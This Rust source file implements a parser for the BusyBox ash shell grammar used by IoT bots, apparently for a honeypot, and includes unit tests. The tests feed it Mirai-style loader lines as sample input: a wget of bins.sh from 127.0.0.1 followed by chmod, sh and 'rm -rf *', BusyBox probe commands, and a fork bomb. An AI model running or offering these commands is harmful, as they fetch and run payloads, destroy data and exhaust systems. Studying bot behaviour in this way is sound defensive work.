//! Parser for the ash grammar bots use: lists (`;`, `&`, newline), `&&`/`||`,
//! pipelines with `!`, simple commands with assignments and redirections, `( )`,
//! `{ ; }`, `if`/`elif`/`else`, `for … in`, `while`/`until`, function definitions,
//! and words with quoting and `$…` expansions.
//!
//! Like ash, a whole input line is parsed before anything runs, so a syntax error
//! anywhere means nothing on the line runs. Nesting is bounded by [`MAX_DEPTH`].

use std::sync::Arc;

mod words;

use words::flatten_literal;

/// Deepest nesting of compound commands and substitutions the parser accepts.
pub const MAX_DEPTH: usize = 64;

/// Part of a word, before expansion.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Part {
    /// Unquoted literal text (subject to globbing).
    Lit(Vec<u8>),
    /// Quoted literal text (from `'…'`, `\x`, or literal text inside `"…"`).
    Quoted(Vec<u8>),
    /// `"…"`: its parts are expanded but not split or globbed.
    Double(Vec<Part>),
    /// `$name`, `${name}` and `${name<op>word}`.
    Param(ParamExp),
    /// `$(…)` or `` `…` ``.
    Command(Arc<List>),
    /// `$((…))`, the raw expression (expanded before evaluation).
    Arith(Vec<Part>),
}

/// A parameter expansion.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ParamExp {
    /// Name (`?`, `$`, `#`, `@`, `*`, `0`-`9`, or a variable name).
    pub name: String,
    /// `${#name}`
    pub length: bool,
    /// `${name:-word}` and friends: (operator, colon, word).
    pub op: Option<(u8, bool, Vec<Part>)>,
}

/// A word: the concatenation of its parts.
pub type Word = Vec<Part>;

/// Redirection operators.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RedirOp {
    /// `>` (and `>|`)
    Out,
    /// `>>`
    Append,
    /// `<`
    In,
    /// `>&N` / `<&N`
    Dup,
    /// `<>`
    ReadWrite,
    /// `<<WORD` / `<<-WORD`: the target is the document's body.
    HereDoc,
}

/// `[fd]op target`
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redir {
    /// File descriptor redirected.
    pub fd: u8,
    /// Operator.
    pub op: RedirOp,
    /// Target word (a file name, or a descriptor number / `-` for `Dup`).
    pub target: Word,
}

/// A command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Command {
    /// `a=b cmd args <redirs>`
    Simple {
        /// Variable assignments before the command name.
        assigns: Vec<(String, Word)>,
        /// Command name and arguments.
        words: Vec<Word>,
        /// Redirections.
        redirs: Vec<Redir>,
    },
    /// A compound command with its redirections.
    Compound(Compound, Vec<Redir>),
    /// `name() body`
    FuncDef(String, Arc<Command>),
}

/// Compound commands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Compound {
    /// `( list )`
    Subshell(Arc<List>),
    /// `{ list; }`
    Group(Arc<List>),
    /// `if`/`elif` clauses (condition, body) and the `else` body.
    If(Vec<(Arc<List>, Arc<List>)>, Option<Arc<List>>),
    /// `for name [in words]; do list; done`
    For(String, Option<Vec<Word>>, Arc<List>),
    /// `while`/`until` (true for until), condition, body.
    While(bool, Arc<List>, Arc<List>),
    /// `case word in pattern|pattern) list ;; ... esac`
    Case(Word, Vec<(Vec<Word>, Arc<List>)>),
}

/// `[!] cmd | cmd | …`
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Pipeline {
    /// `!` in front.
    pub negate: bool,
    /// The commands.
    pub commands: Vec<Command>,
}

/// `pipeline && pipeline || …`
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AndOr {
    /// The first pipeline.
    pub first: Pipeline,
    /// Each following pipeline with true for `&&`, false for `||`.
    pub rest: Vec<(bool, Pipeline)>,
}

/// A list of and-or lists, each with true if it runs in the background (`&`).
#[derive(Clone, Debug, PartialEq, Eq, Default)]
pub struct List(pub Vec<(AndOr, bool)>);

/// Why a line did not parse; `Display` is ash's wording after `syntax error: `.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum SyntaxError {
    /// `unexpected "fi"`, `unexpected ";;"`, `unexpected end of file`…
    #[error("unexpected {0}")]
    Unexpected(String),
    /// An unterminated `'`, `"` or `` ` ``.
    #[error("unterminated quoted string")]
    Unterminated,
    /// Nesting beyond [`MAX_DEPTH`].
    #[error("too deeply nested")]
    TooDeep,
    /// A bad `${…}`.
    #[error("bad substitution")]
    BadSubstitution,
    /// `word()` where word is not a name (ash's wording; `:(){ :|:& };:` ends here).
    #[error("bad function name")]
    BadFunctionName,
    /// A token where ash needed a particular one: `unexpected newline (expecting ")")`.
    #[error("unexpected {found} (expecting \"{expected}\")")]
    Expecting {
        /// What came.
        found: String,
        /// What ash wanted.
        expected: &'static str,
    },
}

/// Largest here-document body (a bound on what one line can make the parser copy).
pub const MAX_HEREDOC_BYTES: usize = 64 * 1024;

/// Whether ash would print its PS2 `> ` and read another line before running `src`
/// (the lines so far, each ending in a newline): an unterminated quote, an unfinished
/// compound command, a here-document without its delimiter, or a trailing
/// backslash-newline.
pub fn needs_more(src: &[u8]) -> bool {
    let last_line = src.strip_suffix(b"\n").unwrap_or(src);
    let last_line = last_line.rsplit(|&b| b == b'\n').next().unwrap_or_default();
    let trailing_backslashes = last_line.iter().rev().take_while(|&&b| b == b'\\').count();
    if trailing_backslashes % 2 == 1 {
        return true;
    }
    match parse(src) {
        Err(SyntaxError::Unterminated) => true,
        Err(SyntaxError::Unexpected(what) | SyntaxError::Expecting { found: what, .. }) => {
            what == "end of file"
        }
        _ => false,
    }
}

const RESERVED: &[&str] = &[
    "if", "then", "elif", "else", "fi", "for", "in", "do", "done", "while", "until", "case",
    "esac", "{", "}", "!",
];

/// Parses one input (a command line, or a whole script).
pub fn parse(src: &[u8]) -> Result<List, SyntaxError> {
    let mut p = Parser {
        src,
        pos: 0,
        depth: 0,
        case_arms: 0,
        heredoc: None,
    };
    let list = p.list(&[])?;
    p.skip_blank_and_newlines();
    match p.peek() {
        None => Ok(list),
        Some(_) => Err(p.unexpected()),
    }
}

struct Parser<'a> {
    src: &'a [u8],
    pos: usize,
    depth: usize,
    /// Inside a `case` arm, where `;;` ends the list.
    case_arms: usize,
    /// Here-document bodies already read: the newline they follow and where they
    /// end (the parser jumps there when it passes that newline).
    heredoc: Option<(usize, usize)>,
}

fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Bytes that end an unquoted word.
fn is_meta(b: u8) -> bool {
    matches!(
        b,
        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
    )
}

impl Parser<'_> {
    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn peek_at(&self, off: usize) -> Option<u8> {
        self.src.get(self.pos + off).copied()
    }

    fn rest(&self) -> &[u8] {
        self.src.get(self.pos..).unwrap_or_default()
    }

    fn enter(&mut self) -> Result<(), SyntaxError> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(SyntaxError::TooDeep);
        }
        Ok(())
    }

    fn leave(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    fn skip_blank(&mut self) {
        while let Some(b) = self.peek() {
            match b {
                b' ' | b'\t' => self.pos += 1,
                b'\\' if self.peek_at(1) == Some(b'\n') => self.pos += 2,
                b'#' => {
                    while self.peek().is_some_and(|b| b != b'\n') {
                        self.pos += 1;
                    }
                }
                _ => break,
            }
        }
    }

    fn skip_blank_and_newlines(&mut self) {
        loop {
            self.skip_blank();
            if self.peek() == Some(b'\n') {
                self.eat_newline();
            } else {
                break;
            }
        }
    }

    /// Passes a newline, and the here-document bodies that follow it.
    fn eat_newline(&mut self) {
        match self.heredoc {
            Some((newline, end)) if newline == self.pos => {
                self.pos = end;
                self.heredoc = None;
            }
            _ => self.pos += 1,
        }
    }

    /// The position of the next newline that ends this command line (outside
    /// quotes), if the input has one.
    fn line_end(&self) -> Option<usize> {
        let mut i = self.pos;
        let mut quote = None;
        while let Some(&b) = self.src.get(i) {
            match (quote, b) {
                (None, b'\\') | (Some(b'"'), b'\\') => i += 1,
                (None, b'\'' | b'"') => quote = Some(b),
                (Some(q), _) if b == q => quote = None,
                (None, b'\n') => return Some(i),
                _ => {}
            }
            i += 1;
        }
        None
    }

    /// `<<[-]WORD`, after the operator: reads the body from the lines after this
    /// command line (after earlier documents of the same line).
    fn here_document(&mut self, strip_tabs: bool) -> Result<Word, SyntaxError> {
        self.skip_blank();
        let delimiter = self.word()?.ok_or_else(|| self.unexpected())?;
        let quoted = delimiter.iter().any(|p| !matches!(p, Part::Lit(_)));
        let mut name = Vec::new();
        flatten_literal(&delimiter, &mut name);
        let (newline, start) = match self.heredoc {
            Some((newline, end)) => (newline, end),
            None => {
                let newline = self
                    .line_end()
                    .ok_or(SyntaxError::Unexpected("end of file".into()))?;
                (newline, newline + 1)
            }
        };
        let mut body = Vec::new();
        let mut at = start;
        let end = loop {
            let rest = self
                .src
                .get(at..)
                .filter(|r| !r.is_empty())
                .ok_or(SyntaxError::Unexpected("end of file".into()))?;
            let len = rest.iter().position(|&b| b == b'\n');
            let line = rest.get(..len.unwrap_or(rest.len())).unwrap_or_default();
            let line = if strip_tabs {
                let tabs = line.iter().take_while(|&&b| b == b'\t').count();
                line.get(tabs..).unwrap_or_default()
            } else {
                line
            };
            let next = at + len.map_or(rest.len(), |l| l + 1);
            if line == name.as_slice() {
                break next;
            }
            if len.is_none() {
                return Err(SyntaxError::Unexpected("end of file".into()));
            }
            if body.len() + line.len() < MAX_HEREDOC_BYTES {
                body.extend_from_slice(line);
                body.push(b'\n');
            }
            at = next;
        };
        self.heredoc = Some((newline, end));
        if quoted {
            return Ok(vec![Part::Quoted(body)]);
        }
        let mut p = Parser {
            src: &body,
            pos: 0,
            depth: self.depth,
            case_arms: 0,
            heredoc: None,
        };
        Ok(vec![Part::Double(p.quoted_text(true)?)])
    }

    /// The next token as ash would name it in "unexpected …".
    fn unexpected(&mut self) -> SyntaxError {
        self.skip_blank();
        let rest = self.rest();
        let Some(&first) = rest.first() else {
            return SyntaxError::Unexpected("end of file".into());
        };
        for op in [
            &b";;"[..],
            b"&&",
            b"||",
            b">>",
            b"<<",
            b";",
            b"&",
            b"|",
            b"(",
            b")",
            b"<",
            b">",
        ] {
            if rest.starts_with(op) {
                return SyntaxError::Unexpected(format!("\"{}\"", String::from_utf8_lossy(op)));
            }
        }
        if first == b'\n' {
            return SyntaxError::Unexpected("newline".into());
        }
        let end = rest.iter().position(|&b| is_meta(b)).unwrap_or(rest.len());
        SyntaxError::Unexpected(format!(
            "\"{}\"",
            String::from_utf8_lossy(rest.get(..end).unwrap_or_default())
        ))
    }

    /// The reserved word at the cursor, if the next word is exactly one.
    fn reserved(&self) -> Option<&'static str> {
        let rest = self.rest();
        RESERVED.iter().copied().find(|w| {
            rest.starts_with(w.as_bytes())
                && rest.get(w.len()).is_none_or(|&b| is_meta(b) || b == b'\n')
        })
    }

    fn eat_reserved(&mut self, word: &str) -> bool {
        self.skip_blank();
        if self.reserved() == Some(word) {
            self.pos += word.len();
            true
        } else {
            false
        }
    }

    fn expect_reserved(&mut self, word: &'static str) -> Result<(), SyntaxError> {
        self.skip_blank_and_newlines();
        if self.eat_reserved(word) {
            return Ok(());
        }
        // `raise_error_unexpected_syntax(TTHEN)`: the word ash wanted is named.
        match self.unexpected() {
            SyntaxError::Unexpected(found) => Err(SyntaxError::Expecting {
                found,
                expected: word,
            }),
            other => Err(other),
        }
    }

    /// The body of a compound command: a list that ash requires to be non-empty
    /// (`if true; then fi` is `unexpected "fi"`).
    fn compound_list(&mut self, stops: &[&str]) -> Result<List, SyntaxError> {
        let list = self.list(stops)?;
        // At the end of input the closing word is what is missing (`if true; then`
        // is `unexpected end of file (expecting "fi")`).
        if list.0.is_empty() && self.peek().is_some() {
            return Err(self.unexpected());
        }
        Ok(list)
    }

    /// A list, stopping before any of `stops` (reserved words) or `)`/EOF.
    fn list(&mut self, stops: &[&str]) -> Result<List, SyntaxError> {
        let mut items = Vec::new();
        loop {
            self.skip_blank_and_newlines();
            match self.peek() {
                None | Some(b')') => break,
                _ => {}
            }
            if let Some(w) = self.reserved() {
                if stops.contains(&w)
                    || matches!(
                        w,
                        "then" | "elif" | "else" | "fi" | "do" | "done" | "}" | "in"
                    )
                {
                    break;
                }
            }
            if self.case_arms > 0 && self.rest().starts_with(b";;") {
                break;
            }
            if self.rest().starts_with(b";;")
                || self.peek() == Some(b';')
                || self.peek() == Some(b'&')
            {
                return Err(self.unexpected());
            }
            let and_or = self.and_or()?;
            self.skip_blank();
            let (background, separated) = match self.peek() {
                Some(b'&') if self.peek_at(1) != Some(b'&') => {
                    self.pos += 1;
                    (true, true)
                }
                Some(b';') if self.peek_at(1) != Some(b';') => {
                    self.pos += 1;
                    (false, true)
                }
                _ => (false, false),
            };
            items.push((and_or, background));
            self.skip_blank();
            match self.peek() {
                Some(b'\n') | None | Some(b')') => {}
                _ if separated || self.reserved().is_some() => {}
                _ if self.case_arms > 0 && self.rest().starts_with(b";;") => {}
                _ => return Err(self.unexpected()),
            }
        }
        Ok(List(items))
    }

    fn and_or(&mut self) -> Result<AndOr, SyntaxError> {
        let first = self.pipeline()?;
        let mut rest = Vec::new();
        loop {
            self.skip_blank();
            let and = if self.rest().starts_with(b"&&") {
                true
            } else if self.rest().starts_with(b"||") {
                false
            } else {
                break;
            };
            self.pos += 2;
            self.skip_blank_and_newlines();
            rest.push((and, self.pipeline()?));
        }
        Ok(AndOr { first, rest })
    }

    fn pipeline(&mut self) -> Result<Pipeline, SyntaxError> {
        self.skip_blank();
        let negate = self.eat_reserved("!");
        let mut commands = vec![self.command()?];
        loop {
            self.skip_blank();
            if self.peek() == Some(b'|') && self.peek_at(1) != Some(b'|') {
                self.pos += 1;
                self.skip_blank_and_newlines();
                commands.push(self.command()?);
            } else {
                break;
            }
        }
        Ok(Pipeline { negate, commands })
    }

    fn command(&mut self) -> Result<Command, SyntaxError> {
        self.skip_blank();
        self.enter()?;
        let result = self.command_inner();
        self.leave();
        result
    }

    fn command_inner(&mut self) -> Result<Command, SyntaxError> {
        let compound = match (self.peek(), self.reserved()) {
            (Some(b'('), _) => {
                self.pos += 1;
                let body = self.compound_list(&[])?;
                self.skip_blank_and_newlines();
                if self.peek() != Some(b')') {
                    return Err(self.unexpected());
                }
                self.pos += 1;
                Some(Compound::Subshell(Arc::new(body)))
            }
            (_, Some("{")) => {
                self.pos += 1;
                let body = self.compound_list(&["}"])?;
                self.expect_reserved("}")?;
                Some(Compound::Group(Arc::new(body)))
            }
            (_, Some("if")) => {
                self.pos += 2;
                let mut clauses = Vec::new();
                let mut otherwise = None;
                loop {
                    let cond = self.compound_list(&["then"])?;
                    self.expect_reserved("then")?;
                    let body = self.compound_list(&["elif", "else", "fi"])?;
                    clauses.push((Arc::new(cond), Arc::new(body)));
                    self.skip_blank_and_newlines();
                    if self.eat_reserved("elif") {
                        continue;
                    }
                    if self.eat_reserved("else") {
                        otherwise = Some(Arc::new(self.compound_list(&["fi"])?));
                    }
                    self.expect_reserved("fi")?;
                    break;
                }
                Some(Compound::If(clauses, otherwise))
            }
            (_, Some(kw @ ("while" | "until"))) => {
                self.pos += kw.len();
                let cond = self.compound_list(&["do"])?;
                self.expect_reserved("do")?;
                let body = self.compound_list(&["done"])?;
                self.expect_reserved("done")?;
                Some(Compound::While(
                    kw == "until",
                    Arc::new(cond),
                    Arc::new(body),
                ))
            }
            (_, Some("for")) => {
                self.pos += 3;
                self.skip_blank();
                let name = self.name().ok_or_else(|| self.unexpected())?;
                self.skip_blank_and_newlines();
                let words = if self.eat_reserved("in") {
                    let mut words = Vec::new();
                    loop {
                        self.skip_blank();
                        match self.peek() {
                            Some(b';') => {
                                self.pos += 1;
                                break;
                            }
                            Some(b'\n') => {
                                self.eat_newline();
                                break;
                            }
                            None => return Err(self.unexpected()),
                            _ => words.push(self.word()?.ok_or_else(|| self.unexpected())?),
                        }
                    }
                    Some(words)
                } else {
                    self.skip_blank();
                    if self.peek() == Some(b';') {
                        self.pos += 1;
                    }
                    None
                };
                self.expect_reserved("do")?;
                let body = self.compound_list(&["done"])?;
                self.expect_reserved("done")?;
                Some(Compound::For(name, words, Arc::new(body)))
            }
            (_, Some("case")) => {
                self.pos += 4;
                self.skip_blank();
                let subject = self.word()?.ok_or_else(|| self.unexpected())?;
                self.expect_reserved("in")?;
                let mut arms = Vec::new();
                loop {
                    self.skip_blank_and_newlines();
                    if self.eat_reserved("esac") {
                        break;
                    }
                    if self.peek() == Some(b'(') {
                        self.pos += 1;
                    }
                    let mut patterns = Vec::new();
                    loop {
                        self.skip_blank();
                        patterns.push(self.word()?.ok_or_else(|| self.unexpected())?);
                        self.skip_blank();
                        match self.peek() {
                            Some(b'|') => self.pos += 1,
                            Some(b')') => {
                                self.pos += 1;
                                break;
                            }
                            _ => return Err(self.unexpected()),
                        }
                    }
                    self.case_arms += 1;
                    let body = self.list(&["esac"]);
                    self.case_arms -= 1;
                    arms.push((patterns, Arc::new(body?)));
                    self.skip_blank_and_newlines();
                    if self.rest().starts_with(b";;") {
                        self.pos += 2;
                    } else if self.reserved() != Some("esac") {
                        return Err(self.unexpected());
                    }
                }
                Some(Compound::Case(subject, arms))
            }
            (
                _,
                Some(w @ ("then" | "elif" | "else" | "fi" | "do" | "done" | "}" | "in" | "esac")),
            ) => {
                return Err(SyntaxError::Unexpected(format!("\"{w}\"")));
            }
            _ => None,
        };
        if let Some(c) = compound {
            let redirs = self.redirections()?;
            return Ok(Command::Compound(c, redirs));
        }
        // Function definition: word ( ) body
        let save = self.pos;
        let raw_end = self
            .rest()
            .iter()
            .position(|&b| is_meta(b) || matches!(b, b'\'' | b'"' | b'`' | b'$' | b'\\'));
        let raw = self
            .rest()
            .get(..raw_end.unwrap_or(self.rest().len()))
            .unwrap_or_default()
            .to_vec();
        if !raw.is_empty() {
            self.pos += raw.len();
            self.skip_blank();
            if self.peek() == Some(b'(') {
                if raw.contains(&b'=') {
                    return Err(self.unexpected());
                }
                let valid = raw.first().is_some_and(|&b| is_name_start(b))
                    && raw.iter().all(|&b| is_name(b));
                if !valid {
                    return Err(SyntaxError::BadFunctionName);
                }
                self.pos += 1;
                self.skip_blank();
                if self.peek() != Some(b')') {
                    return Err(match self.unexpected() {
                        SyntaxError::Unexpected(found) => SyntaxError::Expecting {
                            found,
                            expected: ")",
                        },
                        other => other,
                    });
                }
                self.pos += 1;
                self.skip_blank_and_newlines();
                let body = self.command()?;
                let name = String::from_utf8_lossy(&raw).into_owned();
                return Ok(Command::FuncDef(name, Arc::new(body)));
            }
        }
        self.pos = save;
        self.simple()
    }

    fn name(&mut self) -> Option<String> {
        let start = self.pos;
        if !self.peek().is_some_and(is_name_start) {
            return None;
        }
        while self.peek().is_some_and(is_name) {
            self.pos += 1;
        }
        Some(
            String::from_utf8_lossy(self.src.get(start..self.pos).unwrap_or_default()).into_owned(),
        )
    }

    fn redirections(&mut self) -> Result<Vec<Redir>, SyntaxError> {
        let mut out = Vec::new();
        loop {
            self.skip_blank();
            match self.redirection()? {
                Some(r) => out.push(r),
                None => return Ok(out),
            }
        }
    }

    fn redirection(&mut self) -> Result<Option<Redir>, SyntaxError> {
        let save = self.pos;
        let mut fd = None;
        if let Some(d) = self.peek().filter(u8::is_ascii_digit) {
            if matches!(self.peek_at(1), Some(b'<') | Some(b'>')) {
                fd = Some(d - b'0');
                self.pos += 1;
            }
        }
        let rest = self.rest();
        let (op, len, default_fd) = if rest.starts_with(b">>") {
            (RedirOp::Append, 2, 1)
        } else if rest.starts_with(b">&") {
            (RedirOp::Dup, 2, 1)
        } else if rest.starts_with(b">|") {
            (RedirOp::Out, 2, 1)
        } else if rest.starts_with(b"<&") {
            (RedirOp::Dup, 2, 0)
        } else if rest.starts_with(b"<>") {
            (RedirOp::ReadWrite, 2, 0)
        } else if rest.starts_with(b"<<") {
            let strip_tabs = rest.get(2) == Some(&b'-');
            self.pos += if strip_tabs { 3 } else { 2 };
            let body = self.here_document(strip_tabs)?;
            return Ok(Some(Redir {
                fd: fd.unwrap_or(0),
                op: RedirOp::HereDoc,
                target: body,
            }));
        } else if rest.starts_with(b">") {
            (RedirOp::Out, 1, 1)
        } else if rest.starts_with(b"<") {
            (RedirOp::In, 1, 0)
        } else {
            self.pos = save;
            return Ok(None);
        };
        self.pos += len;
        self.skip_blank();
        let target = match self.word()? {
            Some(w) => w,
            None => return Err(self.unexpected()),
        };
        Ok(Some(Redir {
            fd: fd.unwrap_or(default_fd),
            op,
            target,
        }))
    }

    fn simple(&mut self) -> Result<Command, SyntaxError> {
        let mut assigns = Vec::new();
        let mut words = Vec::new();
        let mut redirs = Vec::new();
        loop {
            self.skip_blank();
            if let Some(r) = self.redirection()? {
                redirs.push(r);
                continue;
            }
            match self.peek() {
                None => break,
                Some(b) if is_meta(b) => break,
                _ => {}
            }
            if words.is_empty() {
                // NAME=value before the command name.
                let save = self.pos;
                if let Some(name) = self.name() {
                    if self.peek() == Some(b'=') {
                        self.pos += 1;
                        let value = self.word()?.unwrap_or_default();
                        assigns.push((name, value));
                        continue;
                    }
                }
                self.pos = save;
            }
            match self.word()? {
                Some(w) => words.push(w),
                None => break,
            }
        }
        if words.is_empty() && assigns.is_empty() && redirs.is_empty() {
            return Err(self.unexpected());
        }
        Ok(Command::Simple {
            assigns,
            words,
            redirs,
        })
    }
}

fn parse_nested(src: &[u8], depth: usize) -> Result<List, SyntaxError> {
    let mut p = Parser {
        src,
        pos: 0,
        depth,
        case_arms: 0,
        heredoc: None,
    };
    let list = p.list(&[])?;
    p.skip_blank_and_newlines();
    if p.peek().is_some() {
        return Err(p.unexpected());
    }
    Ok(list)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn here_documents_take_the_lines_after_the_command_line() {
        let list = parse(b"cat <<EOF; echo after\nhello $X\nEOF\necho next").unwrap();
        assert_eq!(list.0.len(), 3, "{list:?}");
        let quoted = parse(b"cat <<'E'\n$X\nE").unwrap();
        let text = format!("{quoted:?}");
        assert!(
            text.contains("HereDoc") && text.contains("Quoted([36, 88, 10])"),
            "{text}"
        );
        // Two documents on one line, the second after the first; <<- strips tabs.
        assert!(parse(b"cat <<A <<-B\na\nA\n\tb\n\tB\necho x").is_ok());
        assert_eq!(
            parse(b"cat <<EOF\nno end").unwrap_err().to_string(),
            "unexpected end of file"
        );
    }

    #[test]
    fn unfinished_input_needs_more_lines_and_errors_do_not() {
        for more in [
            &b"echo 'abc\n"[..],
            b"if true; then\n",
            b"cat <<EOF\nbody\n",
            b"echo a\\\n",
            b"for i in 1 2; do\n",
        ] {
            assert!(needs_more(more), "{}", String::from_utf8_lossy(more));
        }
        for done in [
            &b"echo (\n"[..],
            b"echo a\\\\\n",
            b"cat <<EOF\nbody\nEOF\n",
            b"fi\n",
            b"echo done\n",
        ] {
            assert!(!needs_more(done), "{}", String::from_utf8_lossy(done));
        }
        assert_eq!(
            parse(b"echo (\n").unwrap_err().to_string(),
            "unexpected newline (expecting \")\")"
        );
    }

    fn lit(s: &str) -> Part {
        Part::Lit(s.as_bytes().to_vec())
    }

    #[test]
    fn loader_lines_parse() {
        for line in [
            &b"/bin/busybox ps; /bin/busybox ECCHI"[..],
            b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon",
            b"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
            b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://127.0.0.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
            b"/bin/busybox cat /bin/busybox || while read i; do /bin/busybox echo ; done < /bin/busybox || /bin/busybox dd if=/bin/busybox bs=22 count=1",
            b"for i in a b; do echo $i; done; if false; then :; elif true; then echo y; else echo n; fi",
            b"(cd /; ls) && { echo a; echo b; } 2>&1 | cat >/dev/null",
            b"echo ${X:-def} ${#X} $((1+2)) $(echo a) `echo b` \"$HOME/x\"",
        ] {
            parse(line).unwrap_or_else(|e| panic!("{}: {e}", String::from_utf8_lossy(line)));
        }
    }

    #[test]
    fn words_and_quotes() {
        let list = parse(b"echo \"a b\"c'd e' \\$x").unwrap();
        let Command::Simple { words, .. } = &list.0[0].0.first.commands[0] else {
            panic!()
        };
        assert_eq!(words.len(), 3);
        assert_eq!(words[0], vec![lit("echo")]);
        assert_eq!(
            words[1],
            vec![
                Part::Double(vec![Part::Quoted(b"a b".to_vec())]),
                lit("c"),
                Part::Quoted(b"d e".to_vec())
            ]
        );
        assert_eq!(words[2], vec![Part::Quoted(b"$".to_vec()), lit("x")]);
    }

    #[test]
    fn redirections() {
        let list = parse(b"echo hi >a 2>/dev/null >>b 2>&1 <c").unwrap();
        let Command::Simple { redirs, .. } = &list.0[0].0.first.commands[0] else {
            panic!()
        };
        let ops: Vec<(u8, RedirOp)> = redirs.iter().map(|r| (r.fd, r.op)).collect();
        assert_eq!(
            ops,
            [
                (1, RedirOp::Out),
                (2, RedirOp::Out),
                (1, RedirOp::Append),
                (2, RedirOp::Dup),
                (0, RedirOp::In)
            ]
        );
        let list = parse(b">dvrHelper").unwrap();
        assert!(
            matches!(&list.0[0].0.first.commands[0], Command::Simple { words, redirs, .. } if words.is_empty() && redirs.len() == 1)
        );
    }

    #[test]
    fn syntax_errors_use_ash_wording() {
        assert_eq!(
            parse(b"echo 'x").unwrap_err().to_string(),
            "unterminated quoted string"
        );
        assert_eq!(parse(b"fi").unwrap_err().to_string(), "unexpected \"fi\"");
        assert_eq!(
            parse(b"echo a; fi").unwrap_err().to_string(),
            "unexpected \"fi\""
        );
        // As `sh -c` says them (measured over SSH exec against Dropbear and ash).
        assert_eq!(
            parse(b"if true; then").unwrap_err().to_string(),
            "unexpected end of file (expecting \"fi\")"
        );
        assert_eq!(
            parse(b"if true").unwrap_err().to_string(),
            "unexpected end of file (expecting \"then\")"
        );
        assert_eq!(
            parse(b"if true; then fi").unwrap_err().to_string(),
            "unexpected \"fi\""
        );
        assert_eq!(parse(b";").unwrap_err().to_string(), "unexpected \";\"");
        assert_eq!(
            parse(b"a && ;").unwrap_err().to_string(),
            "unexpected \";\""
        );
        assert_eq!(
            parse(b"echo )").unwrap_err().to_string(),
            "unexpected \")\""
        );
        assert_eq!(
            parse(b":(){ :|:& };:").unwrap_err().to_string(),
            "bad function name"
        );
        assert_eq!(
            parse(b"a=b(){ x; }").unwrap_err().to_string(),
            "unexpected \"(\""
        );
        assert!(
            matches!(&parse(b"f (){ f|f& }; f").unwrap().0[0].0.first.commands[0], Command::FuncDef(n, _) if n == "f")
        );
    }

    #[test]
    fn deep_nesting_is_an_error_not_a_stack_overflow() {
        let src = "(".repeat(10_000) + &")".repeat(10_000);
        assert_eq!(parse(src.as_bytes()), Err(SyntaxError::TooDeep));
        let src = "$(".repeat(10_000);
        assert!(parse(src.as_bytes()).is_err());
    }
}
